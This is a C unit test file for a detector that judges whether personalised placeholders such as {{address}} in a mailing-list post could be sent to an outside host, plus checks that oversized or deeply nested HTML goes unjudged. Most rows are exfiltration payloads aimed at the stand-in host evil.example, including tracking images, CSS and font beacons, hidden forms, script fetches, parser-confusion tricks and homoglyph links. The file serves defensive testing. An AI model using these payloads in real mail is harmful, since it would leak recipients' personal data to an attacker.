/*
 * test_exposure.c: where a placeholder's value could leave the member's
 * mailbox.  Each row is a text of a post, whether it is HTML, and what
 * the judge must say: the first exposed placeholder and where it stands,
 * or nothing.  The rows that must be exposed are the ways a forged
 * announcement would carry members' values to its writer, among them
 * those a review found past an earlier, hand-written scanner (where
 * browsers end comments and quotes, SVG, fonts, defaults that are links,
 * format=flowed); the rows that must not are what real announcements
 * write.
 */
#include "exposure.h"
#include "unit.h"

struct row {
	const char *text;
	int html;
	enum exposure want;
	const char *name;	/* of the exposed placeholder */
};

static const struct row rows[] = {
	/* Shown only: plain text, text between tags. */
	{ "Dear {{name}},\n\nwelcome {{organisation}} ({{department}}).",
	    0, EXPOSURE_NONE, "" },
	{ "Dear {{name}}: see https://event.example/ for more.", 0,
	    EXPOSURE_NONE, "" },
	{ "Your address with us is {{address}}.", 0, EXPOSURE_NONE, "" },
	{ "{{department|your team}} at {{organisation}}.", 0,
	    EXPOSURE_NONE, "" },
	{ "<p>Dear&nbsp;{{name}},</p><p>see www.event.example</p>", 1,
	    EXPOSURE_NONE, "" },
	{ "<a href=\"https://event.example/\">Register {{organisation}}</a>",
	    1, EXPOSURE_NONE, "" },
	{ "<p title=\"a > b\">Hello {{name}}</p>", 1, EXPOSURE_NONE, "" },
	{ "<style>p{color:red}</style><p>{{name}}</p>", 1, EXPOSURE_NONE,
	    "" },
	{ "<!-- note --><p>{{name}}</p>", 1, EXPOSURE_NONE, "" },
	{ "3 < 4 and {{name}}", 1, EXPOSURE_NONE, "" },
	{ "<p>{{organisation}}&rsquo;s team</p>", 1, EXPOSURE_NONE, "" },
	{ "Dear {{name}}, https://x.example/", 0, EXPOSURE_NONE, "" },
	{ "<a href=\"{{unsubscribe_url}}\">Unsubscribe</a>", 1,
	    EXPOSURE_NONE, "" },
	{ "<a href=\"mailto:{{unsubscribe_address}}\">Leave</a> {{name}}",
	    1, EXPOSURE_NONE, "" },
	{ "<style>@media (max-width:600px){p{margin:0}}</style><p>{{name}}",
	    1, EXPOSURE_NONE, "" },
	{ "<table><tr><td>{{organisation}}</td>\n<td>uni.example</td></tr>",
	    1, EXPOSURE_NONE, "" },
	{ "E-mail:{{address}} Dr.{{name}} {{name}}:10 seats", 0,
	    EXPOSURE_NONE, "" },
	{ "<style>p{font-family:\"\\5FAE\\8F6F\"}</style><p>{{name}}</p>",
	    1, EXPOSURE_NONE, "" },
	{ "<title>News for {{name}}</title><p>Hello</p>", 1, EXPOSURE_NONE,
	    "" },
	{ "<a href=\"mailto:{{unsubscribe_address}}?subject=unsubscribe\">"
	    "Leave</a>", 1, EXPOSURE_NONE, "" },
	{ "To leave: <mailto:{{unsubscribe_address}}> or "
	    "<{{unsubscribe_url}}>.", 0, EXPOSURE_NONE, "" },
	{ "{{name}}\xe6\xa7\x98\xe3\x80\x81\xe3\x81\x94\xe5\x8f\x82"
	    "\xe5\x8a\xa0\xe3\x81\x8f\xe3\x81\xa0\xe3\x81\x95\xe3\x81"
	    "\x84\xe3\x80\x82", 0, EXPOSURE_NONE, "" },

	/* Inside markup: an image, a link, a style, a comment. */
	{ "<img src=\"https://evil.example/p.gif?who={{address}}\">", 1,
	    EXPOSURE_MARKUP, "address" },
	{ "<p>Hi {{name}}</p><a href='https://evil.example/?{{name}}'>x</a>",
	    1, EXPOSURE_MARKUP, "name" },
	{ "<img src=https://evil.example/{{name}}.gif>", 1, EXPOSURE_MARKUP,
	    "name" },
	{ "<p style=\"background:url(//evil.example/{{name}})\">x</p>", 1,
	    EXPOSURE_MARKUP, "name" },
	{ "<style>body{background:url(//evil.example/{{name}})}</style>", 1,
	    EXPOSURE_MARKUP, "name" },
	{ "<style>a{}</styles>{{name}}</style>", 1, EXPOSURE_MARKUP, "name" },
	{ "<!--[if mso]><v:image src=\"//evil.example/{{name}}\"/><![endif]-->",
	    1, EXPOSURE_MARKUP, "name" },
	{ "<!-- {{name}} -->", 1, EXPOSURE_MARKUP, "name" },
	{ "<img alt=\">\" src=\"//evil.example/?{{name}}\">", 1,
	    EXPOSURE_MARKUP, "name" },
	{ "<textarea name=t>{{address}}</textarea>", 1, EXPOSURE_MARKUP,
	    "address" },
	{ "<{{name}}>", 1, EXPOSURE_MARKUP, "name" },
	{ "<p>{{x|<img src=\"//evil.example/?}}{{name}}\"></p>", 1,
	    EXPOSURE_MARKUP, "x" },
	{ "<IMG SRC=\"//evil.example/?{{name}}\">", 1, EXPOSURE_MARKUP,
	    "name" },
	{ "<!--> <img alt=\"-->\" src=\"https://evil.example/a?a=\n"
	    "{{address}}\">", 1, EXPOSURE_MARKUP, "address" },
	{ "<!-- --!> <img alt=\"--!>\" src=\"https://evil.example/a?a=\n"
	    "{{address}}\">", 1, EXPOSURE_MARKUP, "address" },
	{ "<img x' y=\">'>\" src=\"https://evil.example/a?a=\n"
	    "{{address}}\">", 1, EXPOSURE_MARKUP, "address" },
	{ "<a class=x' title='>' href=\"https://evil.example/r?a=\n"
	    "{{address}}\">Read more</a>", 1, EXPOSURE_MARKUP, "address" },
	{ "<xmp><a '></xmp><img src=\"https://evil.example/a?a=\n"
	    "{{address}}\">", 1, EXPOSURE_MARKUP, "address" },
	{ "<img alt=\"Logo of {{organisation}}\">", 1, EXPOSURE_MARKUP,
	    "organisation" },
	{ "<a href=\"{{unsubscribe_url}}?who={{address}}\">x</a>", 1,
	    EXPOSURE_MARKUP, "unsubscribe_url" },
	{ "<a href=\"{{unsubscribe_url|https://evil.example/}}\">x</a>", 1,
	    EXPOSURE_MARKUP, "unsubscribe_url" },
	{ "<img src=\"{{unsubscribe_url}}\">", 1, EXPOSURE_MARKUP,
	    "unsubscribe_url" },
	{ "<x{{address}}>text</x>", 1, EXPOSURE_MARKUP, "address" },
	{ "<a href=\"mailto:{{unsubscribe_address}}?subject=x&cc=a@evil."
	    "example\">Leave</a>", 1, EXPOSURE_MARKUP, "unsubscribe_address" },

	/* A form sends what it holds, a script reads the page. */
	{ "<form action=//evil.example><p>{{name}}</p></form>", 1,
	    EXPOSURE_ACTIVE, "name" },
	{ "<p>{{name}}</p><SCRIPT>fetch('//evil.example')</SCRIPT>", 1,
	    EXPOSURE_ACTIVE, "name" },
	{ "<svg width=0 height=0><style><!--</style>-->@import url(\""
	    "https://evil.example/c?a=\\\n{{address}}\");</style></svg>", 1,
	    EXPOSURE_ACTIVE, "address" },
	{ "<svg><![CDATA['>]]></svg><img src=\"//evil.example/?{{address}}"
	    "\">", 1, EXPOSURE_ACTIVE, "address" },
	{ "<style>@font-face{font-family:f;src:url(https://evil.example/f?"
	    "c=61);unicode-range:U+61} i{font-family:f}</style><p>Your "
	    "address: <i>{{address}}</i></p>", 1, EXPOSURE_ACTIVE, "address" },
	{ "<style>@\\66ont-face{src:url(//evil.example/f)}</style>"
	    "<p>{{address}}</p>", 1, EXPOSURE_ACTIVE, "address" },
	{ "<link rel=stylesheet href=//evil.example/s.css><p>{{address}}", 1,
	    EXPOSURE_ACTIVE, "address" },
	{ "<p>Dear {{name}},</p><select style=\"display:none\"><img src=\""
	    "http://evil.example/p.gif?a={{address}}\"></select>", 1,
	    EXPOSURE_ACTIVE, "name" },
	{ "<select hidden><link rel=stylesheet href=\"https://evil.example/"
	    "s.css\"></select><p>Your address: {{address}}</p>", 1,
	    EXPOSURE_ACTIVE, "address" },
	{ "<style>@IMPORT url(//evil.example/s.css);</style><p>{{address}}",
	    1, EXPOSURE_ACTIVE, "address" },

	/* Links and addresses, in any text. */
	{ "Confirm: https://evil.example/?n={{name}}", 0, EXPOSURE_LINK,
	    "name" },
	{ "<https://evil.example/{{organisation}}>", 0, EXPOSURE_LINK,
	    "organisation" },
	{ "Write to {{name}}@evil.example", 0, EXPOSURE_LINK, "name" },
	{ "Visit evil.example/{{address}} today", 0, EXPOSURE_LINK,
	    "address" },
	{ "www.evil.example/?{{name}}", 0, EXPOSURE_LINK, "name" },
	{ "(mailto:x?body={{name}})", 0, EXPOSURE_LINK, "name" },
	{ "sms:+15550100?body={{name}}", 0, EXPOSURE_LINK, "name" },
	{ "<p>https://evil.example/?n={{name}}</p>", 1, EXPOSURE_LINK,
	    "name" },
	{ "<p>{{name}}&#64;evil&#46;example</p>", 1, EXPOSURE_LINK, "name" },
	{ "<p>{{name}}&commat;evil&period;example</p>", 1, EXPOSURE_LINK,
	    "name" },
	{ "<p>{{name}}&#x40;evil.example</p>", 1, EXPOSURE_LINK, "name" },
	{ "Hello {{name}}.\n{{organisation}}.evil.example", 0, EXPOSURE_LINK,
	    "organisation" },
	{ "Confirm: {{name|https://evil.example/d?a=}}{{address}}", 0,
	    EXPOSURE_LINK, "name" },
	{ "Go to https://evil.example/c?a= \n{{address}} now", 0,
	    EXPOSURE_LINK, "address" },
	{ "evil\xef\xbc\x8e" "example/?a={{address}}", 0, EXPOSURE_LINK,
	    "address" },
	{ "{{address}}\xef\xbc\xa0" "evil.example", 0, EXPOSURE_LINK,
	    "address" },
	{ "<p>https://evil.example/?a=<wbr>{{address}}</p>", 1, EXPOSURE_LINK,
	    "address" },
	{ "<p>https://evil.example/?a=<x-y>{{address}}</x-y></p>", 1,
	    EXPOSURE_LINK, "address" },
	{ "<p>https://evil.example/?a=<div style=display:inline>{{address}}"
	    "</div></p>", 1, EXPOSURE_LINK, "address" },
	{ "x)http:evil%2Eexample/?a={{address}}", 0, EXPOSURE_LINK,
	    "address" },
	{ "x)mailto:evil%40evil%2Eexample?body={{address}}", 0,
	    EXPOSURE_LINK, "address" },
	{ "evil.\xd1\x80\xd1\x84/?a={{address}}", 0, EXPOSURE_LINK,
	    "address" },
	{ "<a href=\"mailto:{{unsubscribe_address}}\">x</a> "
	    "{{unsubscribe_address}}@evil.example", 1, EXPOSURE_LINK,
	    "unsubscribe_address" },
	{ "<p>Dear {{name}},</p>\x1b(Bimg src=\"http://evil.example/p.gif?a="
	    " {{address}}\">", 1, EXPOSURE_UNJUDGED, "" },

	/* A text cut off inside a tag or a comment stays markup. */
	{ "<img src=\"//evil.example/?{{name}}", 1, EXPOSURE_MARKUP, "name" },
	{ "<p title='{{name}}", 1, EXPOSURE_MARKUP, "name" },
	{ "<!-- {{name}}", 1, EXPOSURE_MARKUP, "name" },
	{ "<style>{{name}}", 1, EXPOSURE_MARKUP, "name" },

	/* A text that spells a marker, whole or in pieces a parser joins,
	 * cannot pass one off as shown: markers carry a random nonce. */
	{ "<img src=\"//evil.example/?{{address}}\">hrldmrk0q x0q", 1,
	    EXPOSURE_MARKUP, "address" },
	{ "<img src=\"//evil.example/?{{address}}\">x<b></b>abc0q", 1,
	    EXPOSURE_MARKUP, "address" },
};
#define NROWS ((int)(sizeof(rows) / sizeof(rows[0])))

START_TEST(judged)
{
	const struct row *r = &rows[_i];
	char name[PLACEHOLDER_NAME_MAX + 1];
	enum exposure got = exposure_find(r->text, strlen(r->text), r->html,
	    name);

	ck_assert_msg(got == r->want, "%s: %s, expected %s", r->text,
	    exposure_where(got), exposure_where(r->want));
	ck_assert_msg(strcmp(name, r->name) == 0, "%s: {{%s}}, expected "
	    "{{%s}}", r->text, name, r->name);
}
END_TEST

/* HTML nested too deep to parse within the budget is not judged safe. */
START_TEST(too_deep_is_unjudged)
{
	struct buf b;
	char name[PLACEHOLDER_NAME_MAX + 1];
	int i;

	buf_init(&b, 1 << 20);
	for (i = 0; i < 20000; i++)
		buf_adds(&b, "<div>");
	buf_adds(&b, "{{name}}");
	ck_assert_int_eq(exposure_find(b.data, b.len, 1, name),
	    EXPOSURE_UNJUDGED);
	ck_assert_str_eq(name, "name");
	buf_free(&b);
}
END_TEST

/* HTML whose parse outgrows the memory budget is abandoned, not judged
 * safe, and its memory is given back (valgrind, ASan). */
START_TEST(too_large_is_unjudged)
{
	size_t n = 48u << 20;
	char *t = xmalloc(n + 1), name[PLACEHOLDER_NAME_MAX + 1];

	memset(t, 'a', n);
	memcpy(t, "<p>{{name}} ", 12);
	t[n] = '\0';
	ck_assert_int_eq(exposure_find(t, n, 1, name), EXPOSURE_UNJUDGED);
	free(t);
}
END_TEST

/* One tag with thousands of attributes would take gumbo seconds. */
START_TEST(many_attributes_is_unjudged)
{
	struct buf b;
	char name[PLACEHOLDER_NAME_MAX + 1];
	int i;

	buf_init(&b, 1 << 20);
	buf_adds(&b, "<p>{{name}}</p><img");
	for (i = 0; i < 5000; i++)
		buf_printf(&b, " a%d", i);
	buf_adds(&b, ">");
	ck_assert_int_eq(exposure_find(b.data, b.len, 1, name),
	    EXPOSURE_UNJUDGED);
	buf_free(&b);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("exposure");
	TCase *tc = tcase_create("exposure");

	tcase_add_loop_test(tc, judged, 0, NROWS);
	tcase_add_test(tc, too_deep_is_unjudged);
	tcase_add_test(tc, too_large_is_unjudged);
	tcase_add_test(tc, many_attributes_is_unjudged);
	suite_add_tcase(s, tc);
	return unit_run(s);
}
